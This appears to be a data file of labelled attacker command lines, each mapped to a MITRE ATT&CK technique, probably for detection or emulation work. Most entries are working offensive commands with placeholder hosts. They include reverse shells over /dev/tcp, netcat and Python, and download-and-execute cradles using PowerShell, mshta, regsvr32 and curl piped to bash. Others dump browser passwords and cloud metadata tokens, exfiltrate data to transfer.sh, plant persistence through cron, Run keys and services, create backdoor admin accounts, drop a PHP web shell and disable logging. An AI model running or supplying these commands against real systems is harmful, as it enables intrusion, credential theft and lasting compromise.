ac-curl-h-metadata bash +T1552.005: curl -H "Metadata-Flavor: Google" http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token
ac-irm-http-169 powershell +T1552.005: irm http://169.254.169.254/latest/meta-data/iam/security-credentials/
# T1552.006
ac-findstr-s-cpassword cmd +T1552.006: findstr /S cpassword \\‹fqdn›\SYSVOL\*.xml
ac-findstr-s-i cmd +T1552.006: findstr /S /I cpassword %logonserver%\sysvol\*.xml
ac-get-gpppassword powershell +T1552.006: Get-GPPPassword
# T1555.003
ac-copy-localappdata-google cmd +T1555.003: copy "%LOCALAPPDATA%\Google\Chrome\User Data\Default\Login Data" ‹file›
ac-lazagne-browsers cmd +T1555.003: laZagne.exe browsers
ac-webbrowserpassview-stext cmd +T1555.003: WebBrowserPassView.exe /stext ‹file›
ac-sharpchrome-logins cmd +T1555.003: SharpChrome.exe logins
# T1555.004
ac-vaultcmd-listcreds-windows cmd +T1555.004: vaultcmd /listcreds:"Windows Credentials"
ac-rundll32-keymgr-dll cmd +T1555.004: rundll32.exe keymgr.dll,KRShowKeyMgr
# T1555.005
ac-dir-s-b-n3 cmd +T1555.005: dir /s /b C:\*.kdbx
# T1555
ac-lazagne-all cmd +T1555: laZagne.exe all
# T1539
ac-copy-appdata-mozilla cmd +T1539: copy "%APPDATA%\Mozilla\Firefox\Profiles\‹name›.default-release\cookies.sqlite" ‹file›
# T1056.001
ac-get-keystrokes-logpath powershell +T1056.001: Get-Keystrokes -LogPath $env:TEMP\‹name›.log
ac-xinput-test-tmp bash +T1056.001: xinput test ‹n› > /tmp/‹name›
ac-script-q-f bash +T1056.001: script -q -f /tmp/.‹name›/tty.log
# T1056.002
ac-host-ui-promptforcredential powershell +T1056.002: $c = $Host.UI.PromptForCredential('Windows Security','Enter your password',$env:USERNAME,''); $c.GetNetworkCredential().Password
# T1110.001
ac-hydra-l-root bash +T1110.001: hydra -l root -P /usr/share/wordlists/rockyou.txt ssh://‹ip›
ac-medusa-h-u bash +T1110.001: medusa -h ‹ip› -u administrator -P passwords.txt -M smbnt
ac-ncrack-u-administrator bash +T1110.001: ncrack -u administrator -P ‹name›.txt rdp://‹ip›
ac-patator-ssh-login bash +T1110.001: patator ssh_login host=‹ip› user=root password=FILE0 0=‹name›.txt
# T1110.003
ac-invoke-domainpasswordspray-password powershell +T1110.003: Invoke-DomainPasswordSpray -Password ‹pass›
ac-nxc-smb-u-n4 bash +T1110.003: nxc smb ‹ip› -u users.txt -p '‹pass›' --continue-on-success
ac-kerbrute-passwordspray-d bash +T1110.003: kerbrute passwordspray -d ‹fqdn› users.txt '‹pass›'
# T1110.002
ac-hashcat-m-1000 bash +T1110.002: hashcat -m 1000 hashes.txt rockyou.txt
ac-john-wordlist-rockyou bash +T1110.002: john --wordlist=rockyou.txt ‹name›.hash
ac-hashcat-m-13100 bash +T1110.002: hashcat -m 13100 -a 0 spns.txt rockyou.txt --force
# T1557.001
ac-responder-i-eth0 bash +T1557.001: responder -I eth0 -wrf
ac-ntlmrelayx-py-tf bash +T1557.001: ntlmrelayx.py -tf targets.txt -smb2support
ac-invoke-inveigh-consoleoutput powershell +T1557.001: Invoke-Inveigh -ConsoleOutput Y -NBNS Y -mDNS Y
# T1187
ac-python3-petitpotam-py bash +T1187: python3 PetitPotam.py ‹ip› ‹ip›
ac-printerbug-py bash +T1187: printerbug.py ‹domain›/‹user›:'‹pass›'@‹ip› ‹ip›
# T1040
ac-tcpdump-i-eth0 bash +T1040: tcpdump -i eth0 -w /tmp/‹name›.pcap
ac-tcpdump-i-any bash +T1040: tcpdump -i any -A 'port 21 or port 110' | grep -iE 'user|pass'
ac-tshark-i-eth0 bash +T1040: tshark -i eth0 -c 500 -w /tmp/‹name›.pcap
ac-netsh-trace-start cmd +T1040: netsh trace start capture=yes tracefile=‹dir›\‹name›.etl
ac-pktmon-start-etw cmd +T1040: pktmon start --etw -f ‹dir›\‹name›.etl
ac-windump-i-1 cmd +T1040: windump.exe -i 1 -w ‹file›
# T1033
ac-whoami cmd +T1033: whoami
ac-whoami-all cmd +T1033: whoami /all
ac-query-user cmd +T1033: query user
ac-quser cmd +T1033: quser
ac-qwinsta cmd +T1033: qwinsta
ac-echo-username cmd +T1033: echo %USERNAME%
ac-query-user-server cmd +T1033: query user /server:‹server›
ac-wmic-computersystem-get cmd +T1033: wmic computersystem get username
ac-system-security-principal powershell +T1033: [System.Security.Principal.WindowsIdentity]::GetCurrent().Name
ac-get-wmiobject-win32-n2 powershell +T1033: Get-WmiObject Win32_LoggedOnUser | select Antecedent
ac-id bash +T1033: id
ac-w bash +T1033: w
ac-who bash +T1033: who
ac-last bash +T1033: last
ac-logname bash +T1033: logname
# T1082
ac-systeminfo cmd +T1082: systeminfo
ac-systeminfo-findstr-b cmd +T1082: systeminfo | findstr /B /C:"OS Name" /C:"OS Version"
ac-hostname cmd +T1082: hostname
ac-wmic-os-get cmd +T1082: wmic os get caption,version,osarchitecture,installdate
ac-systeminfo-s-u cmd +T1082: systeminfo /s ‹server› /u ‹user› /p ‹pass›
ac-get-computerinfo powershell +T1082: Get-ComputerInfo
ac-environment-osversion-environment powershell +T1082: [Environment]::OSVersion; [Environment]::MachineName
ac-get-ciminstance-win32-n3 powershell +T1082: Get-CimInstance Win32_OperatingSystem | select Caption,Version,BuildNumber,OSArchitecture
ac-uname-a bash +T1082: uname -a
ac-cat-etc-os bash +T1082: cat /etc/os-release
ac-cat-proc-version bash +T1082: cat /proc/version; cat /etc/issue
ac-hostnamectl bash +T1082: hostnamectl
# T1057
ac-tasklist cmd +T1057: tasklist
ac-tasklist-v cmd +T1057: tasklist /v
ac-wmic-process-list cmd +T1057: wmic process list
ac-wmic-process-get cmd +T1057: wmic process get processid,parentprocessid,executablepath
ac-tasklist-s cmd +T1057: tasklist /s ‹server›
ac-qprocess cmd +T1057: qprocess *
ac-get-process powershell +T1057: Get-Process
ac-gps-select-name powershell +T1057: gps | select Name,Id,Path
ac-get-ciminstance-win32-n4 powershell +T1057: Get-CimInstance Win32_Process | select ProcessId,ParentProcessId,CommandLine
ac-get-wmiobject-win32-n3 powershell +T1057: Get-WmiObject Win32_Process | % { $_.GetOwner().User + ' ' + $_.Name }
ac-ps-aux bash +T1057: ps aux
ac-ps-ef bash +T1057: ps -ef
ac-ps-aux-grep bash +T1057: ps aux | grep root
ac-pstree-ap bash +T1057: pstree -ap
ac-for-p-in bash +T1057: for p in /proc/[0-9]*; do tr '\0' ' ' < $p/cmdline; echo; done
# T1007
ac-sc-query cmd +T1007: sc query
ac-sc-query-state cmd +T1007: sc query state= all
ac-net-start cmd +T1007: net start
ac-tasklist-svc cmd +T1007: tasklist /svc
ac-wmic-service-get cmd +T1007: wmic service get name,pathname,startmode
ac-wmic-service-where cmd +T1007: wmic service where "startmode='auto'" get name,pathname | findstr /i /v "C:\Windows\\"
ac-get-service powershell +T1007: Get-Service
ac-get-service-where powershell +T1007: Get-Service | Where-Object { $_.Status -eq 'Running' }
ac-get-wmiobject-win32-n4 powershell +T1007: Get-WmiObject Win32_Service | select Name,StartName,PathName
ac-systemctl-list-units bash +T1007: systemctl list-units --type=service --state=running
ac-service-status-all bash +T1007: service --status-all
# T1016
ac-ipconfig-all cmd +T1016: ipconfig /all
ac-arp-a cmd +T1016: arp -a
ac-route-print cmd +T1016: route print
ac-nbtstat-n cmd +T1016: nbtstat -n
ac-netsh-interface-show cmd +T1016: netsh interface show interface
ac-ipconfig-displaydns cmd +T1016: ipconfig /displaydns
ac-wmic-nicconfig-get cmd +T1016: wmic nicconfig get ipaddress,macaddress,defaultipgateway
ac-get-netneighbor powershell +T1016: Get-NetNeighbor
ac-get-dnsclientcache powershell +T1016: Get-DnsClientCache
ac-get-netipconfiguration-detailed powershell +T1016: Get-NetIPConfiguration -Detailed
ac-ifconfig-a bash +T1016: ifconfig -a
ac-arp-an bash +T1016: arp -an
ac-ip-neigh-show bash +T1016: ip neigh show
ac-cat-etc-resolv bash +T1016: cat /etc/resolv.conf /etc/hosts; route -n
# T1016.001
ac-ping-8-8 cmd +T1016.001: ping 8.8.8.8 -n 1
ac-ping-1-8 bash +T1016.001: ping -c 1 8.8.8.8
# T1018
ac-net-view cmd +T1018: net view
ac-net-view-domain cmd +T1018: net view /domain
ac-net-group-domain cmd +T1018: net group "Domain Computers" /domain
ac-nltest-dclist cmd +T1018: nltest /dclist:‹fqdn›
ac-dsquery-computer-limit cmd +T1018: dsquery computer -limit 0
ac-for-l-i cmd +T1018: for /L %i in (1,1,254) do @ping -n 1 -w 100 192.168.1.%i | find "TTL="
ac-adfind-f-objectcategory cmd +T1018: adfind.exe -f "(objectcategory=computer)"
ac-get-adcomputer-filter powershell +T1018: Get-ADComputer -Filter * | select Name,DNSHostName
ac-get-domaincontroller powershell +T1018: Get-DomainController
ac-1-254-test powershell +T1018: 1..254 | % { Test-Connection 192.168.1.$_ -Count 1 -Quiet }
ac-adsisearcher-objectcategory-computer powershell +T1018: ([adsisearcher]'(objectCategory=computer)').FindAll()
ac-nmap-sn-24 bash +T1018: nmap -sn ‹ip›/24
ac-fping-agq-24 bash +T1018: fping -agq ‹ip›/24
ac-for-i-in bash +T1018: for i in $(seq 1 254); do ping -c 1 -W 1 10.0.0.$i | grep ttl; done
ac-nbtscan-24 bash +T1018: nbtscan ‹ip›/24
ac-arp-scan-localnet bash +T1018: arp-scan --localnet
# T1046
ac-nmap-ss-p cmd +T1046: nmap.exe -sS -p- ‹ip›
ac-advanced-port-scanner cmd +T1046: advanced_port_scanner_console.exe /r:‹ip›-254 /p:445,3389
ac-1-1024-new powershell +T1046: 1..1024 | % { (New-Object Net.Sockets.TcpClient).Connect('‹ip›',$_) ; "$_ open" }
ac-invoke-portscan-hosts powershell +T1046: Invoke-Portscan -Hosts ‹ip›/24 -TopPorts 50
ac-nmap-sv bash +T1046: nmap -sV ‹ip›
ac-nmap-p-t4 bash +T1046: nmap -p- -T4 ‹ip›
ac-nmap-a-24 bash +T1046: nmap -A ‹ip›/24
ac-masscan-16-p445 bash +T1046: masscan ‹ip›/16 -p445,3389 --rate 10000
ac-nc-zv-1 bash +T1046: nc -zv ‹ip› 1-1024
ac-for-p-in-n2 bash +T1046: for p in $(seq 1 1024); do (echo > /dev/tcp/‹ip›/$p) 2>/dev/null && echo $p; done
ac-rustscan-a-ulimit bash +T1046: rustscan -a ‹ip› --ulimit 5000
# T1135
ac-net-share cmd +T1135: net share
ac-net-view-n2 cmd +T1135: net view \\‹server›
ac-net-view-all cmd +T1135: net view \\‹server› /all
ac-wmic-share-get cmd +T1135: wmic share get name,path
ac-get-smbshare powershell +T1135: Get-SmbShare
ac-invoke-sharefinder-checkshareaccess powershell +T1135: Invoke-ShareFinder -CheckShareAccess
ac-get-wmiobject-class-n2 powershell +T1135: Get-WmiObject -Class Win32_Share
ac-smbclient-l-n bash +T1135: smbclient -L //‹ip› -N
ac-smbmap-h-u bash +T1135: smbmap -H ‹ip› -u ‹user› -p '‹pass›'
ac-enum4linux-s bash +T1135: enum4linux -S ‹ip›
# T1069.001
ac-net-localgroup cmd +T1069.001: net localgroup
ac-net-localgroup-administrators cmd +T1069.001: net localgroup administrators
ac-net-localgroup-remote cmd +T1069.001: net localgroup "Remote Desktop Users"
ac-wmic-group-list cmd +T1069.001: wmic group list brief
ac-whoami-groups cmd +T1069.001: whoami /groups
ac-get-localgroup powershell +T1069.001: Get-LocalGroup
ac-get-localgroupmember-group powershell +T1069.001: Get-LocalGroupMember -Group Administrators
ac-adsi-winnt-administrators powershell +T1069.001: ([ADSI]'WinNT://./Administrators,group').Invoke('Members') | % { $_.GetType().InvokeMember('Name','GetProperty',$null,$_,$null) }
ac-cat-etc-group bash +T1069.001: cat /etc/group
ac-getent-group-sudo bash +T1069.001: getent group sudo
ac-cut-d-f1-n2 bash +T1069.001: cut -d: -f1,4 /etc/group
# T1069.002
ac-net-group-domain-n2 cmd +T1069.002: net group "Domain Admins" /domain
ac-net-group-domain-n3 cmd +T1069.002: net group /domain
ac-dsquery-group-name cmd +T1069.002: dsquery group -name "*admin*" | dsget group -members
ac-get-adgroupmember-domain powershell +T1069.002: Get-ADGroupMember "Domain Admins"
ac-get-domaingroup-admincount powershell +T1069.002: Get-DomainGroup -AdminCount
# T1087.002
ac-net-user-domain cmd +T1087.002: net user /domain
ac-dsquery-user-limit cmd +T1087.002: dsquery user -limit 0
ac-adfind-f-objectcategory-n2 cmd +T1087.002: adfind.exe -f "(objectcategory=person)"
ac-net-user-domain-n2 cmd +T1087.002: net user ‹user› /domain
ac-get-aduser-filter powershell +T1087.002: Get-ADUser -Filter *
ac-get-domainuser powershell +T1087.002: Get-DomainUser
ac-adsisearcher-objectclass-user powershell +T1087.002: ([adsisearcher]'(objectClass=user)').FindAll()
ac-ldapsearch-x-h bash +T1087.002: ldapsearch -x -H ldap://‹ip› -b "dc=‹word›,dc=local" "(objectClass=user)" sAMAccountName
# T1482
ac-nltest-domain-trusts cmd +T1482: nltest /domain_trusts
ac-nltest-domain-trusts-n2 cmd +T1482: nltest /domain_trusts /all_trusts
ac-adfind-gcb-sc cmd +T1482: adfind.exe -gcb -sc trustdmp
ac-get-adtrust-filter powershell +T1482: Get-ADTrust -Filter *
ac-system-directoryservices-activedirectory powershell +T1482: ([System.DirectoryServices.ActiveDirectory.Domain]::GetCurrentDomain()).GetAllTrustRelationships()
ac-get-domaintrust powershell +T1482: Get-DomainTrust
# T1201
ac-net-accounts cmd +T1201: net accounts
ac-net-accounts-domain cmd +T1201: net accounts /domain
ac-get-addefaultdomainpasswordpolicy powershell +T1201: Get-ADDefaultDomainPasswordPolicy
ac-cat-etc-login bash +T1201: cat /etc/login.defs | grep PASS_
# T1083
ac-dir-s-users cmd +T1083: dir /s C:\Users
ac-tree-f-a cmd +T1083: tree C:\ /f /a
ac-dir-s-b-n4 cmd +T1083: dir /s /b C:\*.docx
ac-where-r-kdbx cmd +T1083: where /r C:\ *.kdbx *.rdp
ac-get-childitem-recurse-n2 powershell +T1083: Get-ChildItem -Recurse C:\Users
ac-gci-recurse-include powershell +T1083: gci C:\ -Recurse -Include *.docx,*.xlsx -ErrorAction SilentlyContinue | select FullName
ac-ls-lar-home bash +T1083: ls -laR /home
ac-find-type-f-n2 bash +T1083: find / -type f -name "*.conf" 2>/dev/null
ac-find-writable-type bash +T1083: find / -writable -type d 2>/dev/null
ac-locate-backup-sql bash +T1083: locate backup.sql
# T1012
ac-reg-query-hklm-n6 cmd +T1012: reg query HKLM\Software\Microsoft\Windows\CurrentVersion\Run
ac-reg-query-hklm-n7 cmd +T1012: reg query HKLM\SYSTEM\CurrentControlSet\Services /s
ac-reg-query-hklm-n8 cmd +T1012: reg query "HKLM\SOFTWARE\Policies" /s
ac-get-itemproperty-hklm-n2 powershell +T1012: Get-ItemProperty HKLM:\Software\Microsoft\Windows\CurrentVersion\Run
# T1518
ac-wmic-product-get cmd +T1518: wmic product get name,version,vendor
ac-reg-query-hklm-n9 cmd +T1518: reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall /s
ac-get-itemproperty-hklm-n3 powershell +T1518: Get-ItemProperty HKLM:\Software\Microsoft\Windows\CurrentVersion\Uninstall\* | select DisplayName,DisplayVersion
ac-get-wmiobject-class-n3 powershell +T1518: Get-WmiObject -Class Win32_Product | select Name,Version
ac-dpkg-l bash +T1518: dpkg -l
ac-rpm-qa bash +T1518: rpm -qa
# T1518.001
ac-wmic-namespace-root-n2 cmd +T1518.001: wmic /namespace:\\root\SecurityCenter2 path AntiVirusProduct get displayName
ac-sc-query-windefend cmd +T1518.001: sc query windefend
ac-tasklist-findstr-i cmd +T1518.001: tasklist | findstr /i "MsMpEng CSFalcon SentinelAgent cb.exe"
ac-fltmc-filters-findstr cmd +T1518.001: fltmc filters | findstr /i "sysmon 385201"
ac-get-ciminstance-namespace-n2 powershell +T1518.001: Get-CimInstance -Namespace root/SecurityCenter2 -ClassName AntiVirusProduct
ac-get-mpcomputerstatus-select powershell +T1518.001: Get-MpComputerStatus | select AntivirusEnabled,RealTimeProtectionEnabled,IsTamperProtected
ac-ps-aux-grep-n2 bash +T1518.001: ps aux | grep -Ei 'falcon|osquery|auditd|wazuh|cbdaemon'
# T1124
ac-net-time cmd +T1124: net time \\‹server›
ac-w32tm-tz cmd +T1124: w32tm /tz
ac-get-timezone-get powershell +T1124: Get-TimeZone; Get-Date
# T1614.001
ac-get-winsystemlocale-get powershell +T1614.001: Get-WinSystemLocale; Get-WinUserLanguageList
ac-reg-query-hklm-n10 cmd +T1614.001: reg query HKLM\SYSTEM\CurrentControlSet\Control\Nls\Language
# T1615
ac-gpresult-z cmd +T1615: gpresult /z
ac-gpresult-r cmd +T1615: gpresult /r
ac-get-domaingpo powershell +T1615: Get-DomainGPO
# T1652
ac-driverquery cmd +T1652: driverquery
ac-driverquery-v-fo cmd +T1652: driverquery /v /fo csv
# T1120
ac-get-pnpdevice-presentonly powershell +T1120: Get-PnpDevice -PresentOnly
# T1010
ac-get-process-where powershell +T1010: Get-Process | where { $_.MainWindowTitle } | select ProcessName,MainWindowTitle
# T1217
ac-type-localappdata-google cmd +T1217: type "%LOCALAPPDATA%\Google\Chrome\User Data\Default\Bookmarks"
# T1654
ac-wevtutil-qe-security cmd +T1654: wevtutil qe Security /q:"*[System[(EventID=4624)]]" /c:50 /rd:true /f:text
ac-get-eventlog-security powershell +T1654: Get-EventLog Security -InstanceId 4624 | select -ExpandProperty Message
# T1497.001
ac-wmic-computersystem-get-n2 cmd +T1497.001: wmic computersystem get manufacturer,model | findstr /i "vmware virtualbox qemu"
ac-dmidecode-s-system bash +T1497.001: dmidecode -s system-manufacturer | grep -iE 'vmware|qemu|xen'
# T1059.001
ac-iex-new-object-n2 powershell +T1059.001: IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/‹name›.ps1')
ac-iwr-http-ps1 powershell +T1059.001: iwr http://‹ip›/‹name›.ps1 -UseBasicParsing | iex
ac-powershell-ep-bypass powershell +T1059.001: powershell -ep bypass -nop -w hidden -c "IEX(irm http://‹ip›/‹name›)"
ac-powershell-enc cmd +T1059.001: powershell -enc ‹enc›
ac-powershell-nop-w cmd +T1059.001: powershell.exe -nop -w hidden -ep bypass -EncodedCommand ‹enc›
ac-powershell-executionpolicy-bypass cmd +T1059.001: powershell -ExecutionPolicy Bypass -NoProfile -File C:\Users\Public\‹name›.ps1
# T1059.003
ac-cmd-users-public cmd +T1059.003: cmd.exe /c C:\Users\Public\‹name›.bat
ac-cmd-start-min cmd +T1059.003: cmd /c start /min "" %TEMP%\‹name›.bat
# T1059.005
ac-wscript-users-public cmd +T1059.005: wscript.exe C:\Users\Public\‹name›.vbs
ac-cscript-nologo-temp cmd +T1059.005: cscript //nologo %TEMP%\‹name›.vbs
ac-wscript-b-e cmd +T1059.005: wscript.exe //b //e:vbscript %APPDATA%\‹name›.txt
# T1059.007
ac-wscript-temp-js cmd +T1059.007: wscript.exe %TEMP%\‹name›.js
ac-cscript-e-jscript cmd +T1059.007: cscript //e:jscript C:\Users\Public\‹name›.dat
# T1059.006
ac-python3-import-socket bash +T1059.006: python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("‹ip›",‹port›));[os.dup2(s.fileno(),f) for f in(0,1,2)];import pty;pty.spawn("bash")'
ac-python-import-pty bash +T1059.006: python -c 'import pty; pty.spawn("/bin/bash")'
ac-python3-import-urllib bash +T1059.006: python3 -c "import urllib.request;exec(urllib.request.urlopen('http://‹ip›/‹name›.py').read())"
# T1059.004
ac-bash-i-dev bash +T1059.004: bash -i >& /dev/tcp/‹ip›/‹port› 0>&1
ac-rm-tmp-f bash +T1059.004: rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ‹ip› ‹port› >/tmp/f
ac-0-196-exec bash +T1059.004: 0<&196;exec 196<>/dev/tcp/‹ip›/‹port›; sh <&196 >&196 2>&196
ac-curl-s-http bash +T1059.004: curl -s http://‹ip›/‹name›.sh | bash
ac-wget-qo-http bash +T1059.004: wget -qO- http://‹ip›/‹name›.sh | sh
ac-nc-e-bin bash +T1059.004: nc -e /bin/sh ‹ip› ‹port›
# T1047
ac-wmic-node-process cmd +T1047: wmic /node:‹server› process call create "cmd.exe /c ‹dir›\‹name›.exe"
ac-wmic-process-call-n3 cmd +T1047: wmic process call create "powershell -enc ‹enc›"
ac-invoke-wmimethod-class-n2 powershell +T1047: Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList "C:\Users\Public\‹name›.exe" -ComputerName ‹server›
ac-invoke-cimmethod-classname powershell +T1047: Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='C:\Users\Public\‹name›.exe'}
ac-wmiexec-py bash +T1047: wmiexec.py ‹domain›/‹user›:'‹pass›'@‹ip›
# T1053.005
ac-schtasks-create-tn cmd +T1053.005: schtasks /create /tn ‹name› /tr C:\Users\Public\‹name›.exe /sc onlogon
ac-schtasks-create-sc cmd +T1053.005: schtasks /create /sc minute /mo 5 /tn "‹name›" /tr "powershell -w hidden -enc ‹enc›" /f
ac-schtasks-create-s cmd +T1053.005: schtasks /create /s ‹server› /ru SYSTEM /tn ‹name› /tr C:\Windows\Temp\‹name›.exe /sc once /st 00:00
# T1053.003
ac-crontab-l-echo bash +T1053.003: (crontab -l; echo "* * * * * curl -s http://‹ip›/‹name› | sh") | crontab -
ac-echo-root-tmp bash +T1053.003: echo "* * * * * root /tmp/.‹name›" >> /etc/crontab
ac-echo-5-root bash +T1053.003: echo '*/5 * * * * root bash -c "bash -i >& /dev/tcp/‹ip›/‹port› 0>&1"' > /etc/cron.d/‹name›
# T1053.002
ac-echo-bash-i bash +T1053.002: echo "bash -i >& /dev/tcp/‹ip›/‹port› 0>&1" | at now + 1 minute
# T1053.006
ac-systemctl-enable-now bash +T1053.006: systemctl enable --now /tmp/‹name›.timer
# T1569.002
ac-psexec64-accepteula-s-n2 cmd +T1569.002: PsExec64.exe -accepteula \\‹server› -s cmd.exe
ac-sc-start cmd +T1569.002: sc \\‹server› start ‹letters8›
ac-psexec-py bash +T1569.002: psexec.py ‹domain›/‹user›:'‹pass›'@‹ip›
# T1218.005
ac-mshta-http-hta cmd +T1218.005: mshta http://‹ip›/‹name›.hta
ac-mshta-vbscript-close cmd +T1218.005: mshta vbscript:Close(Execute("GetObject(""script:http://‹ip›/‹name›.sct"")"))
# T1218.010
ac-regsvr32-s-n cmd +T1218.010: regsvr32 /s /n /u /i:http://‹ip›/‹name›.sct scrobj.dll
# T1218.011
ac-rundll32-javascript-mshtml cmd +T1218.011: rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://‹ip›/‹name›")
ac-rundll32-users-public cmd +T1218.011: rundll32 C:\Users\Public\‹name›.dll,DllMain
ac-rundll32-url-dll cmd +T1218.011: rundll32.exe url.dll,OpenURL C:\Users\Public\‹name›.hta
# T1218.007
ac-msiexec-q-i cmd +T1218.007: msiexec /q /i http://‹ip›/‹name›.msi
# T1218.004
ac-installutil-logfile-logtoconsole cmd +T1218.004: InstallUtil.exe /logfile= /LogToConsole=false /U C:\Users\Public\‹name›.dll
# T1218.003
ac-cmstp-s-ns cmd +T1218.003: cmstp.exe /s /ns C:\Users\Public\‹name›.inf
# T1218.001
ac-hh-http-chm cmd +T1218.001: hh.exe http://‹ip›/‹name›.chm
# T1218.009
ac-regasm-u-users cmd +T1218.009: regasm.exe /U C:\Users\Public\‹name›.dll
# T1218.008
ac-odbcconf-s-a cmd +T1218.008: odbcconf.exe /S /A {REGSVR C:\Users\Public\‹name›.dll}
# T1127.001
ac-windows-microsoft-net cmd +T1127.001: C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Users\Public\‹name›.xml
# T1220
ac-wmic-os-get-n2 cmd +T1220: wmic os get /format:"http://‹ip›/‹name›.xsl"
ac-msxsl-xml-xsl cmd +T1220: msxsl.exe ‹name›.xml ‹name›.xsl
# T1202
ac-forfiles-p-windows cmd +T1202: forfiles /p C:\Windows\System32 /m notepad.exe /c C:\Users\Public\‹name›.exe
ac-pcalua-a-users cmd +T1202: pcalua.exe -a C:\Users\Public\‹name›.exe
# T1197
ac-bitsadmin-transfer-download cmd +T1197: bitsadmin /transfer ‹name› /download /priority high http://‹ip›/‹name›.exe C:\Users\Public\‹name›.exe
ac-bitsadmin-setnotifycmdline-users cmd +T1197: bitsadmin /setnotifycmdline ‹name› C:\Users\Public\‹name›.exe NUL
ac-start-bitstransfer-source powershell +T1197: Start-BitsTransfer -Source http://‹ip›/‹name›.exe -Destination C:\Users\Public\‹name›.exe
# T1105
ac-certutil-urlcache-split cmd +T1105: certutil -urlcache -split -f http://‹ip›/‹name›.exe ‹name›.exe
ac-certutil-verifyctl-split cmd +T1105: certutil.exe -verifyctl -split -f http://‹ip›/‹name›.exe
ac-curl-http-o cmd +T1105: curl.exe http://‹ip›/‹name›.exe -o C:\Users\Public\‹name›.exe
ac-new-object-net powershell +T1105: (New-Object Net.WebClient).DownloadFile('http://‹ip›/‹name›.exe','C:\Users\Public\‹name›.exe')
ac-iwr-uri-http powershell +T1105: iwr -Uri http://‹ip›/‹name›.exe -OutFile C:\Users\Public\‹name›.exe
ac-wget-http-o bash +T1105: wget http://‹ip›/‹name› -O /tmp/‹name›
ac-curl-http-o-n2 bash +T1105: curl http://‹ip›/‹name› -o /tmp/.‹name› && chmod +x /tmp/.‹name›
ac-scp-tmp-dev bash +T1105: scp ‹user›@‹ip›:/tmp/‹name› /dev/shm/‹name›
# T1016
ac-netstat-r cmd +T1016: netstat -r
ac-netstat-rn bash +T1016: netstat -rn
ac-curl-ifconfig-me bash +T1016: curl ifconfig.me
# T1548.001
ac-find-perm-4000 bash +T1548.001: find / -perm -4000 -type f 2>/dev/null
# T1567
ac-curl-upload-file bash +T1567: curl --upload-file /tmp/‹name›.tgz https://transfer.sh/‹name›.tgz
# T1685.004
ac-systemctl-stop-rsyslog bash +T1685.004: systemctl stop rsyslog && systemctl disable rsyslog
# T1547.001
ac-reg-add-hkcu cmd +T1547.001: reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v ‹name› /t REG_SZ /d C:\Users\Public\‹name›.exe /f
ac-copy-appdata-microsoft cmd +T1547.001: copy ‹name›.exe "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\"
ac-set-itemproperty-hkcu powershell +T1547.001: Set-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name ‹name› -Value C:\Users\Public\‹name›.exe
# T1547.004
ac-reg-add-hkcu-n2 cmd +T1547.004: reg add "HKCU\Software\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Shell /d "explorer.exe, C:\Users\Public\‹name›.exe" /f
# T1547.006
ac-insmod-tmp-ko bash +T1547.006: insmod /tmp/‹name›.ko
# T1543.003
ac-sc-create-binpath cmd +T1543.003: sc create ‹name› binPath= "C:\Users\Public\‹name›.exe" start= auto
ac-sc-create-binpath-n2 cmd +T1543.003: sc \\‹server› create ‹name› binPath= "cmd.exe /c C:\Windows\Temp\‹name›.bat"
ac-sc-config-binpath cmd +T1543.003: sc config ‹name› binPath= "cmd /c net localgroup administrators ‹user› /add"
# T1543.002
ac-printf-service-nexecstart bash +T1543.002: printf '[Service]\nExecStart=/tmp/.‹name›\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/‹name›.service
# T1136.001
ac-net-user-add cmd +T1136.001: net user ‹user› ‹pass› /add
ac-net-user-support cmd +T1136.001: net user support_‹n› ‹pass› /add & net localgroup administrators support_‹n› /add
ac-new-localuser-name powershell +T1136.001: New-LocalUser -Name ‹name› -Password (ConvertTo-SecureString '‹pass›' -AsPlainText -Force)
ac-useradd-m-s bash +T1136.001: useradd -m -s /bin/bash ‹name›
ac-useradd-o-u bash +T1136.001: useradd -o -u 0 -g 0 -M -d /root -s /bin/bash ‹name›
# T1136.002
ac-net-user-add-n2 cmd +T1136.002: net user ‹user› ‹pass› /add /domain
# T1098.004
ac-echo-ssh-rsa bash +T1098.004: echo "ssh-rsa AAAAB3NzaC1yc2E‹hash› root@‹name›" >> ~/.ssh/authorized_keys
# T1098
ac-net-localgroup-administrators-n2 cmd +T1098: net localgroup administrators ‹user› /add
ac-net-group-domain-n4 cmd +T1098: net group "Domain Admins" ‹user› /add /domain
ac-add-localgroupmember-group powershell +T1098: Add-LocalGroupMember -Group Administrators -Member ‹user›
# T1098.007
ac-usermod-ag-sudo bash +T1098.007: usermod -aG sudo ‹name›
# T1546.003
ac-register-wmievent-query powershell +T1546.003: Register-WmiEvent -Query "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'" -Action { Start-Process C:\Users\Public\‹name›.exe }
# T1546.004
ac-echo-tmp-bashrc bash +T1546.004: echo "/tmp/.‹name› &" >> ~/.bashrc
ac-echo-nohup-bash bash +T1546.004: echo "nohup bash -i >& /dev/tcp/‹ip›/‹port› 0>&1 &" >> /etc/profile
# T1546.008
ac-copy-y-windows cmd +T1546.008: copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\sethc.exe
ac-copy-y-windows-n2 cmd +T1546.008: copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\utilman.exe
# T1546.012
ac-reg-add-hklm-n2 cmd +T1546.012: reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\notepad.exe" /v Debugger /d C:\Users\Public\‹name›.exe /f
# T1505.003
ac-echo-php-system bash +T1505.003: echo '<?php system($_GET["cmd"]); ?>' > /var/www/html/‹name›.php
